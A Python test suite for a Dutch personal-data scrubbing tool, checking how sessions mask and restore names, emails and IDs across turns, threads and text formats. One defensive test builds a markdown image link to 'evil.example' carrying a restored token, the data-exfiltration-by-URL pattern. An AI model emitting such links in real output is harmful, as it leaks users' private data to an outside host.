"""A session: one map for many texts and turns, under either law of tokens."""

import csv
import json
import re
import sys
import time
from concurrent.futures import ThreadPoolExecutor
from itertools import pairwise
from types import SimpleNamespace
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from scrub_app.core import workflow
from scrub_app.core.audit import by_word, words
from scrub_app.core.entities import Tier
from scrub_app.core.errors import MaskingError, SessionError
from scrub_app.core.issuing import MemoryIssuer
from scrub_app.core.placeholders.one_way import TypeLabel
from scrub_app.core.placeholders.tokens import LabelCounter, LabelHash
from scrub_app.core.rules import Rules, Term
from scrub_app.core.scrubkey import model
from scrub_app.core.scrubkey.model import ScrubKey, TokenRequest
from scrub_app.core.sessions.bulk import bulk_blocks
from scrub_app.core.sessions.key_ledger import KeyLedger
from scrub_app.core.sessions.map_ledger import MapLedger
from scrub_app.core.sessions.session import Handling, Session
from scrub_app.core.spans import Span
from scrub_app.core.tokens import evidence

KEY = ScrubKey(b"k" * 16, b"s" * 32)


def labels(key: ScrubKey = KEY) -> Session:
    return Session.resumed(MapLedger(LabelCounter(), key))


def robust(key: ScrubKey = KEY) -> Session:
    return Session.resumed(KeyLedger(MemoryIssuer(key)))


def hashes(key: ScrubKey = KEY) -> Session:
    return Session.resumed(MapLedger(LabelHash(b"h" * 32), key))


LAWS = pytest.mark.parametrize("session_of", [labels, robust, hashes])


def spans(text: str, **values: str) -> list[Span]:
    """A span for every place of the given values; the name of each argument is its type."""
    return sorted(
        (
            Span(match.start(), match.end(), entity)
            for entity, value in values.items()
            for match in re.finditer(re.escape(value), text)
        ),
        key=lambda s: s.start,
    )


@LAWS
def test_a_value_has_the_same_token_across_items_and_calls(session_of) -> None:
    session = session_of()
    texts = ["Piet Bakker belt.", "Is Piet Bakker daar?"]
    first = session.mask(texts, [spans(t, PERSON="Piet Bakker") for t in texts])
    later = session.mask(["Groet Piet Bakker."], [[]])
    (token,) = first.texts[0].tokens
    assert first.texts[1].tokens == later.texts[0].tokens == (token,)
    assert later.texts[0].text == f"Groet {token}."
    assert session.restore(later.texts[0].text).text == "Groet Piet Bakker."


def test_labels_are_numbered_per_type_in_reading_order() -> None:
    text = "Anna Smit en Piet Bakker in Zwolle en Deventer."
    found = spans(text, PERSON="Anna Smit") + spans(text, PERSON="Piet Bakker")
    found += spans(text, LOCATION="Zwolle") + spans(text, LOCATION="Deventer")
    masked = labels().mask([text], [found]).texts[0]
    assert masked.text == "[PERSON_1] en [PERSON_2] in [LOCATION_1] en [LOCATION_2]."


def test_the_law_of_labels_is_one_token_per_entity_and_the_first_form_comes_back() -> None:
    session = labels()
    text = "José Vos, JOSÉ VOS en Jose\u0301 Vos."
    found = [Span(0, 8, "PERSON"), Span(10, 18, "PERSON"), Span(22, 31, "PERSON")]
    masked = session.mask([text], [found]).texts[0].text
    assert masked == "[PERSON_1], [PERSON_1] en [PERSON_1]."
    assert session.restore(masked).text == "José Vos, José Vos en José Vos."


def test_the_law_of_robust_tokens_is_one_token_per_form_and_every_form_comes_back() -> None:
    session = robust()
    text = "José Vos en JOSÉ VOS."
    masked = session.mask([text], [[Span(0, 8, "PERSON"), Span(12, 20, "PERSON")]]).texts[0]
    assert len(masked.tokens) == 2
    assert session.restore(masked.text).text == text


@LAWS
def test_a_text_that_looks_like_a_token_comes_back_as_it_stood(session_of) -> None:
    session = session_of()
    text = "Zie [PERSON_1], [[SP_PERSON_0001_ABCD]] en <<PERSON:0a1b2c3d>> voor Piet Bakker, [person_2]."
    masked = session.mask([text], [spans(text, PERSON="Piet Bakker")]).texts[0]
    assert "Piet" not in masked.text
    assert session.restore(masked.text).text == text


@pytest.mark.parametrize("session_of", [labels, robust])
def test_a_call_costs_what_it_adds_however_long_the_session_is(session_of, monkeypatch: pytest.MonkeyPatch) -> None:
    session, looked_at = session_of(), []

    def counted(look: Any) -> Any:
        def call(*given: Any) -> Any:
            looked_at.append(given)
            return look(*given)

        return call

    monkeypatch.setattr(evidence, "STRICT", SimpleNamespace(fullmatch=counted(evidence.STRICT.fullmatch)))
    monkeypatch.setattr(by_word, "first_words", counted(by_word.first_words))
    monkeypatch.setattr(words.Words, "may_hold", counted(words.Words.may_hold))
    monkeypatch.setattr(model.Issuing, "__init__", counted(model.Issuing.__init__))
    for number in range(100):
        text = f"Piet Bakker{number:03} belt."
        masked = session.mask([text], [[Span(0, 14, "PERSON")]]).texts[0].text
        assert session.restore(masked).text == text
    assert len(looked_at) < 500


@LAWS
def test_threads_that_share_a_session_give_each_value_a_token_of_its_own(session_of) -> None:
    session, before = session_of(), sys.getswitchinterval()

    def there_and_back(number: int) -> str:
        text = f"De heer Bakker{number:04} belt."
        masked = session.mask([text], [[Span(8, 18, "PERSON")]]).texts[0].text
        assert session.restore(masked).text == text
        return masked

    sys.setswitchinterval(1e-6)
    try:
        with ThreadPoolExecutor(8) as threads:
            masked = list(threads.map(there_and_back, range(300)))
    finally:
        sys.setswitchinterval(before)
    assert len(set(masked)) == 300


def test_what_another_window_adds_to_the_key_is_known_too() -> None:
    issuer = MemoryIssuer(KEY)
    session = Session(KeyLedger(issuer))
    (entry,) = issuer.issue([TokenRequest("Piet Zonderland", "PERSON")])
    assert session.restore(f"Groet {entry.token}.").text == "Groet Piet Zonderland."
    masked = session.mask(["Groet Piet Zonderland."], [[]]).texts[0].text
    assert masked == f"Groet {entry.token}."
    assert session.restore(masked).text == "Groet Piet Zonderland."


def test_a_reserved_literal_is_never_issued_later() -> None:
    session = labels()
    masked = session.mask(["De code [PERSON_1].", "Piet Bakker"], [[], [Span(0, 11, "PERSON")]])
    assert masked.texts[1].text == "[PERSON_2]"
    again = labels(session.key)
    assert again.mask(["De code [PERSON_1]."], [[]]).texts[0].text == masked.texts[0].text


@LAWS
def test_a_token_of_the_session_in_a_later_turn_stays_that_token(session_of) -> None:
    session = session_of()
    masked = session.mask(["Piet Bakker"], [[Span(0, 11, "PERSON")]]).texts[0].text
    turn = f"Wat vindt {masked} ervan?"
    assert session.mask([turn], [[]]).texts[0].text == turn
    assert session.restore(turn).text == "Wat vindt Piet Bakker ervan?"


@LAWS
def test_a_session_goes_on_from_its_key(session_of) -> None:
    session = session_of()
    text = "Piet Bakker, piet@kantoor.example"
    before = session.mask([text], [spans(text, PERSON="Piet Bakker", EMAIL="piet@kantoor.example")]).texts[0]
    again = session_of(session.key)
    assert again.restore(before.text).text == text
    more = again.mask(["Anna Smit en Piet Bakker"], [[Span(0, 9, "PERSON")]]).texts[0]
    assert before.tokens[0] in more.tokens
    assert len(set(more.tokens) | set(before.tokens)) == 3


@LAWS
def test_an_unknown_token_is_refused_when_strict_and_counted_when_not(session_of) -> None:
    session = session_of()
    masked = session.mask(["Piet Bakker"], [[Span(0, 11, "PERSON")]]).texts[0].text
    other = session_of(ScrubKey(b"o" * 16, b"p" * 32))
    other.mask(["Ria"], [[Span(0, 3, "PERSON")]])
    foreign = other.mask(["Anna Smit"], [[Span(0, 9, "PERSON")]]).texts[0].text
    with pytest.raises(SessionError) as caught:
        session.restore(f"{masked} {foreign}")
    assert (caught.value.code, caught.value.params) == ("unknown_tokens", {"count": 1})
    loose = session.restore(f"{masked} {foreign}", strict=False)
    assert (loose.text, loose.unknown) == (f"Piet Bakker {foreign}", 1)


@pytest.mark.parametrize("session_of", [labels, robust])
def test_a_damaged_token_is_refused_when_strict_and_repaired_on_wish(session_of) -> None:
    session = session_of()
    masked = session.mask(["Piet Bakker"], [[Span(0, 11, "PERSON")]]).texts[0].text
    damaged = f"Groet {masked.lower()} en {masked}"
    with pytest.raises(SessionError):
        session.restore(damaged)
    assert session.restore(damaged, strict=False).text == f"Groet {masked.lower()} en Piet Bakker"
    repaired = session.restore(damaged, strict=False, repair=True)
    assert (repaired.text, repaired.repaired, repaired.restored) == ("Groet Piet Bakker en Piet Bakker", 1, 1)


@LAWS
def test_no_value_goes_into_a_link_that_masking_did_not_write(session_of) -> None:
    session = session_of()
    text = "Mail via https://kantoor.example/?m=piet@kantoor.example of bel Piet Bakker."
    found = spans(text, EMAIL="piet@kantoor.example", PERSON="Piet Bakker")
    masked = session.mask([text], [found]).texts[0]
    assert session.restore(masked.text).text == text
    person = masked.tokens[1]
    leak = f"![x](https://evil.example/?q={person})"
    with pytest.raises(SessionError) as caught:
        session.restore(leak)
    assert caught.value.code == "tokens_in_links"
    assert session.restore(leak, strict=False).text == leak
    assert session_of(session.key).restore(masked.text).text == text


@LAWS
@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_a_value_stays_in_its_cell_of_a_table(session_of, separator) -> None:
    value = f"Bakker{separator} Piet"
    session, text = session_of(), f"Aan {value} gericht."
    token = session.mask([text], [spans(text, PERSON=value)]).texts[0].tokens[0]
    table = f"naam{separator}plaats\n{token}{separator}Zwolle\n"
    back = session.restore(table).text
    assert list(csv.reader(back.splitlines(), delimiter=separator))[1] == [value, "Zwolle"]


BEER = 'Piet "de Beer" Bakker'


@LAWS
@pytest.mark.parametrize(
    "written",
    [
        '{0} schrijft:\n{{"naam": "{0}"}}\n',
        '{0}\n{{"naam": "{0}"}}\n',
        'Hier is het, {0}:\n{{"naam": "{0}"}}\nGroet.',
        'Hier is het:\n{{\n  "naam": "{0}"\n}}\nGroet, {0}',
        'Het object {{"naam": "{0}"}} van {0} klopt.',
        'Zie `pad` en\n```\n{{"naam": "{0}"}}\n```\n',
    ],
)
def test_json_in_a_text_stays_json_wherever_it_stands(session_of, written: str) -> None:
    session, text = session_of(), f"Aan {BEER} gericht."
    token = session.mask([text], [spans(text, PERSON=BEER)]).texts[0].tokens[0]
    back = session.restore(written.format(token)).text
    assert json.loads(back[back.index("{") : back.index("}") + 1]) == {"naam": BEER}
    assert back.replace(BEER.replace('"', '\\"'), BEER) == written.format(BEER)


@LAWS
def test_a_value_stays_in_its_row_of_a_markdown_table(session_of) -> None:
    session, text = session_of(), "Aan A|B Bakker gericht."
    token = session.mask([text], [spans(text, PERSON="A|B Bakker")]).texts[0].tokens[0]
    assert session.restore(f"| naam |\n|---|\n| {token} |\n").text.endswith("| A\\|B Bakker |\n")


@LAWS
@pytest.mark.parametrize(
    ("text", "value"),
    [
        ("<p>O'Brien & Zn belde.</p>", "O'Brien & Zn"),
        ('["Piet "de Beer" Bakker"]', BEER),
        ("naam;stad\nA & B;Zwolle\n", "A & B"),
    ],
)
def test_a_source_that_is_not_spelled_as_it_should_comes_back_to_the_letter(session_of, text: str, value: str) -> None:
    session = session_of()
    masked = session.mask([text], [spans(text, PERSON=value)]).texts[0].text
    assert session.restore(masked).text == text
    assert session_of(session.key).restore(masked).text == text
    assert session.restore(masked + " ").text != text + " " or "<" not in text


NASTY = [
    BEER,
    "Bakker, Piet",
    "Bakker; P",
    "O'Brien & Zn",
    "A|B",
    "C:\\Users\\p",
    "Jan\nB",
    "<Piet>",
    'P \\"x\\" B',
    "&amp; Co",
]
AROUND = [
    '{"naam": "',
    '"}',
    "\n",
    '["',
    '"]',
    ";",
    ",",
    "\t",
    "| ",
    " |",
    "<p>",
    "</p>",
    "`",
    "```json\n",
    "a;b\n",
    " ",
    "[",
]


@settings(max_examples=300, deadline=None)
@given(
    st.lists(st.one_of(st.sampled_from(NASTY), st.sampled_from(AROUND)), min_size=1, max_size=9),
    st.sampled_from([robust, hashes, labels]),
)
def test_a_round_trip_is_the_identity_for_any_value_in_any_text(parts: list[str], session_of) -> None:
    found, at = [], 0
    for part in parts:
        if part in NASTY:
            found.append(Span(at, at + len(part), "REFERENCE"))
        at += len(part)
    session, text = session_of(), "".join(parts)
    masked = session.mask([text], [found]).texts[0].text
    assert session.restore(masked).text == text


def test_a_value_in_json_is_spelled_so_that_the_json_stays_json() -> None:
    session = labels()
    masked = session.mask(['Piet "Pief" Bakker'], [[Span(0, 18, "PERSON")]]).texts[0].text
    assert session.restore(f'{{"name": "{masked}"}}').text == '{"name": "Piet \\"Pief\\" Bakker"}'


def test_never_send_data_leaves_a_mark_and_no_entry() -> None:
    session = labels()
    text = "BSN 111222333, nogmaals 111222333."
    found = [Span(4, 13, "BSN", tier=Tier.REMOVE)]
    masked = session.mask([text], [found])
    assert masked.texts[0].text == "BSN █████, nogmaals █████."
    assert (masked.removed, masked.tokenised) == (2, 0)
    assert not session.key.entries


def test_never_send_data_is_refused_when_asked_and_nothing_is_issued() -> None:
    session = labels()
    text = "Piet Bakker, BSN 111222333"
    found = [Span(0, 11, "PERSON"), Span(17, 26, "BSN", tier=Tier.REMOVE)]
    with pytest.raises(SessionError) as caught:
        session.mask([text], [found], Handling(reject=True))
    assert (caught.value.code, caught.value.params) == ("tier1_detected", {"count": 1})
    assert not session.key.entries


def test_amounts_and_dates_are_tokens_and_ranges_on_request() -> None:
    text = "€ 12.500 op 3 maart 2024"
    found = [Span(0, 8, "AMOUNT"), Span(12, 24, "DATE")]
    assert labels().mask([text], [found]).texts[0].text == "[AMOUNT_1] op [DATE_1]"
    ranged = labels().mask([text], [found], Handling(bucket_amounts=True, bucket_dates=True, language="en"))
    assert ranged.texts[0].text == "€ 10,000-25,000 op spring 2024"
    assert (ranged.bucketed, ranged.tokenised) == (2, 0)


def test_a_value_found_once_is_masked_in_every_text_of_the_call() -> None:
    texts = ["Dit is Piet Zonderland.", "zonderland: zie PIET ZONDERLAND; de heer Piet Zonderland"]
    masked = labels().mask(texts, [spans(texts[0], PERSON="Piet Zonderland"), []])
    assert "ZONDERLAND" not in masked.texts[1].text
    assert "Piet" not in masked.texts[1].text


def test_known_entities_are_folded_longest_first_and_hyphenated_surnames_extended() -> None:
    rules = Rules(terms=(Term("Zoë Vos", "PERSON"), Term("Vos", "PERSON"), Term("Vos Pensioenfonds", "FUND")))
    text = "ZOE VOS, Zoë Vos-de Wit, vos pensioenfonds en Vos."
    found = workflow.detect(text, rules=rules, detectors=())
    assert [(text[s.start : s.end], s.entity) for s in found if s.source == "terms"] == [
        ("ZOE VOS", "PERSON"),
        ("Zoë Vos-de Wit", "PERSON"),
        ("vos pensioenfonds", "FUND"),
        ("Vos", "PERSON"),
    ]


def test_a_factory_that_cannot_come_back_makes_no_ledger() -> None:
    with pytest.raises(MaskingError):
        MapLedger(TypeLabel(), KEY)  # type: ignore[arg-type]


def test_a_repr_shows_no_value() -> None:
    session = labels()
    masked = session.mask(["Piet Bakker"], [[Span(0, 11, "PERSON")]])
    assert "Bakker" not in repr((session, masked, masked.texts, session.restore("[PERSON_1]"), session.key.entries))


PEOPLE = ["Anna Smit", "Piet Bakker", "Rob Vos", "Els Kok", "Jan Mol", "Ida Bos"]
BULK = {
    "list": "".join(f"- {p}\n" for p in PEOPLE),
    "numbered": "".join(f"{n}. {p}, advocaat\n" for n, p in enumerate(PEOPLE, 1)),
    "table": "nr\tnaam\tplaats\n" + "".join(f"{n}\t{p}\tZwolle\n" for n, p in enumerate(PEOPLE)),
    "csv": "id;naam;plaats\n" + "".join(f"{n};{p};Zwolle\n" for n, p in enumerate(PEOPLE)),
    "markdown": "| naam | rol |\n|---|---|\n" + "".join(f"| {p} | x |\n" for p in PEOPLE),
    "json": "[\n" + "".join(f'{{\n  "name": "{p}",\n  "n": 1\n}},\n' for p in PEOPLE) + "]\n",
    "graph": "".join(f"{a} -> {b}\n" for a, b in pairwise(PEOPLE)),
    "json on one line": f"[{', '.join(json.dumps({'naam': p, 'functie': p[:2]}) for p in PEOPLE)}]\n",
    "array on one line": f"{json.dumps(PEOPLE)}\n",
    "html": f"<table>{''.join(f'<tr><td>{p}</td><td>lid</td></tr>' for p in PEOPLE)}</table>\n",
    "xml": "".join(f"<lid>\n  <naam>{p}</naam>\n  <rol>secretaris {p[:2]}</rol>\n</lid>\n" for p in PEOPLE),
    "yaml": "".join(f"- naam: {p}\n  rol: lid\n  sinds: 2020\n" for p in PEOPLE),
    "vcard": "".join(f"BEGIN:VCARD\nVERSION:3.0\nFN:{p}\nTITLE:lid\nEND:VCARD\n" for p in PEOPLE),
    "ldif": "".join(f"dn: cn={p},ou=people\nobjectClass: person\n\n" for p in PEOPLE),
    "sql": "".join(f"INSERT INTO leden VALUES ({n}, '{p}', 'lid');\n" for n, p in enumerate(PEOPLE)),
    "columns": "".join(f"{n:<4}{p:<20}lid\n" for n, p in enumerate(PEOPLE)),
    "log": "".join(f"10:0{n} login {p} ok\n" for n, p in enumerate(PEOPLE)),
    "enumeration": f"Aanwezig waren {', '.join([*PEOPLE, 'Mia Dekker', 'Kees Prins'])} en verder niemand.\n",
    "recipients": f"Aan: {'; '.join([*PEOPLE, 'Mia Dekker', 'Kees Prins'])}\n",
}


@pytest.mark.parametrize("kind", BULK)
def test_a_bulk_list_of_people_goes_as_a_whole(kind: str) -> None:
    text = f"Beste collega,\n\nHierbij:\n{BULK[kind]}\nGroet, Rob Vos"
    found = sorted(
        (s for p in [*PEOPLE, "Mia Dekker", "Kees Prins"] for s in spans(text, PERSON=p)), key=lambda s: s.start
    )
    masked = labels().mask([text], [found])
    assert masked.removed == 1
    assert not any(p in masked.texts[0].text for p in PEOPLE)
    # The greeting and the name under the letter are no part of it.
    assert masked.texts[0].text.startswith("Beste collega,\n\nHierbij:\n")
    assert masked.texts[0].text.endswith("Groet, [PERSON_1]")
    assert masked.texts[0].text.count("PERSON") == 1
    with pytest.raises(SessionError):
        labels().mask([text], [found], Handling(reject=True))


def test_a_letter_with_many_names_is_no_bulk_list() -> None:
    text = "\n".join(
        f"Op die dag sprak {a} uitvoerig met {b} over de gang van zaken op kantoor, zo blijkt uit het verslag."
        for a, b in pairwise(PEOPLE)
    )
    found = sorted((s for p in PEOPLE for s in spans(text, PERSON=p)), key=lambda s: s.start)
    assert bulk_blocks(text, found) == []


@pytest.mark.parametrize(
    "text",
    [
        "De erfgenamen Anna Smit, Piet Bakker, Rob Vos, Els Kok en Jan Mol zijn verschenen.",
        "Geachte heer Rob Vos,\n\nHierbij: Anna Smit\n\nGroet,\nPiet Bakker\nadvocaat\n\ncc: Els Kok, Jan Mol, Ida Bos",
        "Kind: Anna Smit\nOuders: Piet Bakker / Els Kok\nArts: dr. Jan Mol\nSchool: juf Ida Bos\nTolk: Rob Vos",
    ],
)
def test_a_handful_of_people_in_a_letter_is_no_bulk_list(text: str) -> None:
    found = sorted((s for p in PEOPLE for s in spans(text, PERSON=p)), key=lambda s: s.start)
    assert bulk_blocks(text, found) == []


def test_a_long_list_costs_time_in_proportion() -> None:
    people = [*PEOPLE, "Mia Dekker", "Kees Prins"]
    text = "".join(f"{p} {n}; " for n in range(2_000) for p in people)
    found = sorted((s for p in people for s in spans(text, PERSON=p)), key=lambda s: s.start)
    started = time.process_time()
    assert bulk_blocks(text, found) == [(0, text.rindex("Kees Prins") + 10)]
    assert time.process_time() - started < 3


ALPHABET = st.sampled_from(
    ["Piet Bakker", "piet bakker", "[PERSON_1]", "[[", "]]", "<<", " ", "é", "\n", '"', "x", "[", "_1]"]
)


@settings(max_examples=150, deadline=None)
@given(st.lists(st.lists(ALPHABET, max_size=14), min_size=1, max_size=4), st.sampled_from([robust, hashes, labels]))
def test_masking_and_restoring_is_the_identity(turns: list[list[str]], session_of) -> None:
    session = session_of()
    for pieces in turns:
        text = "".join(pieces)
        if session_of is not robust:
            # The law of one token per entity gives the first form back: here there is one form.
            text = text.replace("piet bakker", "Piet Bakker")
        known = {"[PERSON_1]", *(e.token for e in session.ledger.entries)}
        if any(token in text for token in known - {"[PERSON_1]"}) or session.ledger.value("[PERSON_1]"):
            continue
        found = spans(text, PERSON="Piet Bakker") + spans(text, PERSON="piet bakker")
        masked = session.mask([text], [sorted(found, key=lambda s: s.start)]).texts[0].text
        assert "Bakker" not in masked
        assert session.restore(masked).text == text
